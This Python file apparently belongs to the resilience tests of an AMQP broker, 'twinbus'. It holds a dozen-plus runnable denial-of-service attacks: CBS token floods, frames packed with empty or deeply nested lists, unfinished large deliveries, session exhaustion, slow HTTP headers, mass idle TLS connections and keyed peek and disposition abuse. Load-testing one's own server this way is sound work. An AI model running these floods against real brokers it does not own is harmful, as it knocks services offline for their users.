"""What somebody tries who wants to take a namespace down, each in a process of its own.

    python attacks.py NAME CONNECTION_STRING SECONDS

An attack goes on until its time is over; that the server hangs up on it is what it has to expect, and it comes again.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from raw_peer import HungUp, RawPeer

from twinbus.amqp.frames import frame
from twinbus.amqp.performatives import Disposition, Flow, LinkRole, Modified, Transfer
from twinbus.amqp.sections import PropertyField, encode_message
from twinbus.amqp.types import Int, Long, Symbol
from twinbus.connection_string import ConnectionString

ROOM = 65_000
"""What fits a frame."""
QUEUE = "attacked"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    does: str
    """What it does, as the page says it."""
    run: Callable[[str, float], None]
    """Called with a connection string and the time when it is over (`time.monotonic`)."""
    has_key: bool
    """Whether it uses the key in the connection string; without it, it is anonymous."""


ATTACKS: dict[str, Attack] = {}


def attack(
    does: str, *, has_key: bool = False
) -> Callable[[Callable[[str, float], None]], Callable[[str, float], None]]:
    def take(run: Callable[[str, float], None]) -> Callable[[str, float], None]:
        name = run.__name__.replace("_", "-")
        ATTACKS[name] = Attack(name, does, run, has_key)
        return run

    return take


def again(until: float) -> Iterator[None]:
    """Until the time is over, whatever the server does about it; not more often than it makes sense."""
    while time.monotonic() < until:
        yield
        time.sleep(0.005)


def request(operation: str, properties: dict[str, object], body: object, reply_to: str) -> bytes:
    return encode_message(
        properties={PropertyField.MESSAGE_ID: "m" * 1000, PropertyField.REPLY_TO: reply_to},
        application_properties={"operation": operation, **properties},
        value=body,
    )


def with_key(connection_string: str) -> RawPeer:
    said = ConnectionString.parse(connection_string)
    return RawPeer(connection_string, user=said.key_name, key=said.key)


# --- before anybody has shown who he is ---


@attack("asks `$cbs` for answers and takes none: session window 0, credit for a million")
def cbs_answers_not_taken(connection_string: str, until: float) -> None:
    token = request("put-token", {"name": "sb://x/" + "a" * 900, "type": "x"}, "t" * 8000, "from 1")
    for _ in again(until):
        with contextlib.suppress(HungUp), RawPeer(connection_string) as peer:
            peer.open()
            peer.begin(window=0)
            peer.attach_sender(0, "$cbs")
            peer.attach_receiver(1, "$cbs", window=0)
            for number in range(100_000):
                peer.say(Transfer(0, number, b"t", settled=True), payload=token)
                peer.read()
                if time.monotonic() > until:
                    break


@attack("sends bad tokens as fast as it can, on 20 connections")
def token_flood(connection_string: str, until: float) -> None:
    token = request(
        "put-token", {"name": "sb://x/orders", "type": "x"}, "SharedAccessSignature sr=x&sig=x&se=9&skn=x", "f"
    )
    for _ in again(until):
        with contextlib.ExitStack() as stack, contextlib.suppress(HungUp):
            peers = [stack.enter_context(RawPeer(connection_string)) for _ in range(20)]
            for peer in peers:
                peer.open()
                peer.begin()
                peer.attach_sender(0, "$cbs")
                peer.attach_receiver(1, "$cbs", name="f", window=2**31 - 1)
            number = 0
            while time.monotonic() < until:
                for peer in peers:
                    peer.read()
                    for _ in range(50):
                        number += 1
                        peer.say(Transfer(0, number % 2**31, b"t", settled=True), payload=token)


@attack("attaches links whose properties are tens of thousands of empty lists")
def empty_lists_in_attach(connection_string: str, until: float) -> None:
    many: list[object] = [[] for _ in range(60_000)]
    for _ in again(until):
        with contextlib.suppress(HungUp), RawPeer(connection_string) as peer:
            peer.open()
            peer.begin()
            for handle in range(200):
                peer.attach_sender(handle, "$cbs", properties={Symbol("x"): many})
                peer.read()


@attack("says nothing but an open frame full of empty lists, on 100 connections")
def empty_lists_in_open(connection_string: str, until: float) -> None:
    many: list[object] = [[] for _ in range(60_000)]
    for _ in again(until):
        with contextlib.ExitStack() as stack:
            for _ in range(100):
                with contextlib.suppress(HungUp, OSError):
                    stack.enter_context(RawPeer(connection_string)).open({Symbol("x"): many})
            time.sleep(max(0.0, min(2.0, until - time.monotonic())))


@attack("begins 15 deliveries of 1 MB on each of 40 connections, and ends none")
def unfinished_deliveries(connection_string: str, until: float) -> None:
    for _ in again(until):
        with contextlib.ExitStack() as stack:
            for _ in range(40):
                with contextlib.suppress(HungUp, OSError):
                    peer = stack.enter_context(RawPeer(connection_string))
                    peer.open()
                    peer.begin()
                    for handle in range(15):
                        peer.attach_sender(handle, "$cbs")
                        peer.say(Transfer(handle, handle, b"t", more=True), payload=b"x" * ROOM)
                        for _ in range(14):
                            peer.say(Transfer(handle, more=True), payload=b"x" * ROOM)
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


@attack("begins deliveries of one byte with tags of 60 KB, on 200 links")
def long_delivery_tags(connection_string: str, until: float) -> None:
    for _ in again(until):
        with contextlib.suppress(HungUp), RawPeer(connection_string) as peer:
            peer.open()
            peer.begin()
            for handle in range(200):
                peer.attach_sender(handle, "$cbs")
                peer.say(Transfer(handle, handle, b"t" * 60_000, more=True), payload=b"x")
                peer.read()


@attack("begins a thousand sessions with a link each, on 20 connections")
def many_sessions(connection_string: str, until: float) -> None:
    for _ in again(until):
        with contextlib.ExitStack() as stack:
            for _ in range(20):
                with contextlib.suppress(HungUp, OSError):
                    peer = stack.enter_context(RawPeer(connection_string))
                    peer.open()
                    for channel in range(1000):
                        peer.begin(channel)


@attack("asks and never reads what the server says")
def deaf_ear(connection_string: str, until: float) -> None:
    for _ in again(until):
        with contextlib.suppress(HungUp, OSError), RawPeer(connection_string) as peer:
            peer.open()
            peer.begin()
            peer.attach_sender(0, "$cbs")
            peer.attach_receiver(1, "$cbs", window=2**31 - 1)
            echo = Flow(
                next_incoming_id=0, incoming_window=1, next_outgoing_id=0, outgoing_window=1, handle=1, echo=True
            )
            while time.monotonic() < until:
                peer.say(echo)


@attack("sends the head of a request and then its body of 1 MB, without a token, on 60 connections")
def http_bodies(connection_string: str, until: float) -> None:
    said = ConnectionString.parse(connection_string)
    head = b"PUT /orders HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
    for _ in again(until):
        with contextlib.ExitStack() as stack:
            for _ in range(60):
                with contextlib.suppress(OSError):
                    guest = stack.enter_context(socket.create_connection((said.host, said.port), timeout=5))
                    guest.sendall(head + b"x" * 900_000)
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


@attack("sends the head of a request one letter a second, on 300 connections")
def slow_http(connection_string: str, until: float) -> None:
    said = ConnectionString.parse(connection_string)
    head = b"GET /orders HTTP/1.1\r\nHost: x\r\nX-Filler: " + b"x" * 8000
    for _ in again(until):
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            guests = [
                stack.enter_context(socket.create_connection((said.host, said.port), timeout=5)) for _ in range(300)
            ]
            for letter in range(len(head)):
                for guest in guests:
                    guest.sendall(head[letter : letter + 1])
                if time.monotonic() > until:
                    break
                time.sleep(max(0.0, min(1.0, until - time.monotonic())))


@attack("asks over HTTP without a token, takes the 401 and stays, on 60 connections at a time")
def http_refused(connection_string: str, until: float) -> None:
    said = ConnectionString.parse(connection_string)
    head = b"GET /orders HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n"
    for _ in again(until):
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            for _ in range(60):
                guest = stack.enter_context(socket.create_connection((said.host, said.port), timeout=5))
                guest.sendall(head)
            time.sleep(max(0.0, min(1.0, until - time.monotonic())))


@attack("shakes hands for TLS and says nothing more, on 1,500 connections at a time")
def tls_and_silence(connection_string: str, until: float) -> None:
    said = ConnectionString.parse(connection_string)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for _ in again(until):
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            for _ in range(1500):
                guest = socket.create_connection((said.host, said.port), timeout=5)
                stack.enter_context(context.wrap_socket(guest, server_hostname=said.host))
                if time.monotonic() > until:
                    break


@attack("sends an open frame of lists in lists, 7,000 deep, again and again")
def deep_nesting(connection_string: str, until: float) -> None:
    nested = b"\x45"
    while len(nested) < ROOM:
        nested = b"\xd0" + struct.pack(">II", len(nested) + 4, 1) + nested
    for _ in again(until):
        with contextlib.suppress(HungUp), RawPeer(connection_string) as peer:
            peer.write(frame(0, b"\x00\x53\x10" + nested))
            peer.read()


# --- with a key ---


@attack("peeks messages and takes none of the answers: session window 0", has_key=True)
def peek_answers_not_taken(connection_string: str, until: float) -> None:
    address = f"{QUEUE}/$management"
    body = {"from-sequence-number": Long(1), "message-count": Int(250)}
    peek = request("com.microsoft:peek-message", {}, body, "from 1")
    for _ in again(until):
        with contextlib.suppress(HungUp), with_key(connection_string) as peer:
            peer.open()
            peer.begin(window=0)
            peer.attach_sender(0, address)
            peer.attach_receiver(1, address, window=0)
            for number in range(1500):
                peer.say(Transfer(0, number, b"t", settled=True), payload=peek)
                peer.read()
                if time.monotonic() > until:
                    break


@attack(
    "receives thousands of messages and says of all 2^31 numbers that they are released, again and again", has_key=True
)
def wide_dispositions(connection_string: str, until: float) -> None:
    for _ in again(until):
        with contextlib.suppress(HungUp), with_key(connection_string) as peer:
            peer.open()
            peer.begin()
            peer.attach_receiver(0, QUEUE, window=2**31 - 1, credit=20_000)
            began = time.monotonic()
            while time.monotonic() < min(until, began + 2):
                peer.read()
                time.sleep(0.01)
            wide = Disposition(LinkRole.RECEIVER, 0, 2**31 - 1, settled=False, state=Modified(delivery_failed=False))
            for _ in range(1000):
                peer.say(wide)
                peer.read()
                if time.monotonic() > until:
                    break


def main() -> None:
    name, connection_string, seconds = sys.argv[1:4]
    ATTACKS[name].run(connection_string, time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
